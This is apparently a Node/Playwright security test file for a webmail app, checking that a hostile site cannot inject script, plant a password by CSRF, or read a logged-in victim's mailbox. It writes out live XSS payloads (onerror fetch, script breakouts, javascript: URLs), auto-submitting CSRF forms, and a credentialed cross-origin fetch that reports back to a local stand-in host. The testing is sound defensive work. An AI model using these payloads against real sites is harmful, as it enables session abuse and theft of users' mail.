// A logged-in victim visits pages of another site (another loopback port)
// that send the browser to crafted addresses of the webmail: markup in
// request fields and in a refused field name, a password planted by a link
// or a foreign form, and a script that tries to read the mailbox.  Nothing
// may run (no request reaches the other site's /hit), nothing may change
// (the stored profile), nothing may be read.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { env, launch, noServers, userDirs } from './lib.mjs';

const esc = (s) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
const go = (target) => `<script>location.href = ${JSON.stringify(target)};</script>`;
const post = (fields) => `<form id=f method=post action="${esc(env.LK_WEB_URL)}">${fields}</form>`
    + '<script>document.getElementById("f").submit();</script>';

// The stored POP password of the user's slot 0.
function storedPassword(user) {
    const found = userDirs(user).map((d) => path.join(d, 'user.dat')).filter((f) => fs.existsSync(f));
    assert.equal(found.length, 1, `one profile for ${user}: ${found}`);
    return /\npophost 0 [^\t]*\t[^\t]*\t([^\t]*)\t/.exec(fs.readFileSync(found[0], 'utf8'))?.[1];
}

describe('another site against a logged-in victim', { skip: noServers }, () => {
    // The other site: "/page" serves the HTML of the visit, "/hit" records
    // that a script ran somewhere.
    const hits = [];
    let html = '', base, server, b;
    before(async () => {
        server = http.createServer((req, res) => {
            if (req.url.startsWith('/hit')) hits.push(req.url);
            res.writeHead(req.url.startsWith('/hit') ? 204 : 200,
                { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html; charset=utf-8' });
            res.end(req.url.startsWith('/hit') ? undefined : html);
        });
        await new Promise((r) => server.listen(0, '127.0.0.1', r));
        base = `http://127.0.0.1:${server.address().port}`;
        b = await launch();
        await b.login(env.LK_USER1, env.LK_PASS1);
        assert.ok((await b.context.cookies()).some((c) => c.name === 'utok' && c.value), 'logged in');
    });
    after(async () => {
        await b?.close();
        server?.close();
    });

    // Opens the other site's page and waits for wherever it leads.
    async function visit(page) {
        html = page;
        await b.page.goto(`${base}/page?${Date.now()}`);
        await b.page.waitForLoadState('load');
        await b.page.waitForTimeout(400);
    }

    test('markup in set_ fields and u_ pairs runs nothing', async () => {
        const run = (tag) => encodeURIComponent(`<img src=x onerror="fetch('${base}/hit?${tag}')">`);
        const targets = [
            `?set_pre_error=${run('pre_error')}`,
            `?cmd=flogin&set_info_msg=${run('info')}&set_error=${run('error')}`,
            `?set_charset=${encodeURIComponent(`"><script>fetch('${base}/hit?charset')</script>`)}`,
            `?cmd=flogin&u_x=${run('u_pair')}&page=list&set_u_x=1`,
            `?cmd=list&set_navtarget=${encodeURIComponent(`x" onfocus="fetch('${base}/hit?navtarget')" autofocus x="`)}`,
            `?cmd=list&set_b_action=${encodeURIComponent(`javascript:fetch('${base}/hit?action')`)}`,
        ];
        for (const t of targets) await visit(go(env.LK_WEB_URL + t));
        // The last page's links are clicked too: a script address would run now.
        const link = b.page.locator('a').first();
        if (await link.count()) await link.click({ timeout: 2000 }).catch(() => {});
        await b.page.waitForTimeout(300);
        assert.deepEqual(hits, []);
        assert.deepEqual(b.events.dialogs, []);
    });

    test('a refused field name posted by a foreign form runs nothing', async () => {
        let fields = '';
        for (let i = 0; i < 505; i++) fields += `<input name="set_v${i}" value="1">`;
        await visit(post(`${fields}<input name="${esc(`set_<img src=x onerror="fetch('${base}/hit?fieldname')">`)}" value="1">`));
        assert.match(await b.page.content(), /Too many var_sets/);
        assert.deepEqual(hits, []);
    });

    test('a link or a foreign form does not plant a password', async () => {
        const stored = storedPassword(env.LK_USER1);
        assert.ok(stored);
        await visit(go(`${env.LK_WEB_URL}?cmd=list&newpass=Csrf4567`));
        await visit(post('<input name=cmd value=list><input name=newpass value=Csrf4567>'));
        assert.equal(storedPassword(env.LK_USER1), stored);
    });

    test('a script of the other site cannot read the mailbox', async () => {
        await visit(`<script>
            fetch(${JSON.stringify(env.LK_WEB_URL + '?cmd=list')}, { credentials: 'include' })
                .then((r) => r.text())
                .then((t) => fetch('${base}/hit?read=' + t.length))
                .catch(() => fetch('${base}/hit-blocked'));
            </script>`);
        await b.page.waitForTimeout(800);
        assert.deepEqual(hits.filter((h) => h.startsWith('/hit?')), []);
        // Nor can it frame the webmail to read or click through it.
        await visit(`<iframe id=w src="${esc(env.LK_WEB_URL + '?cmd=list')}"></iframe>`);
        const framed = b.page.frames().find((f) => f.url().startsWith(env.LK_WEB_URL));
        const text = framed ? await framed.content().catch(() => '') : '';
        assert.doesNotMatch(text, /Inbox|New Mail/);
    });
});
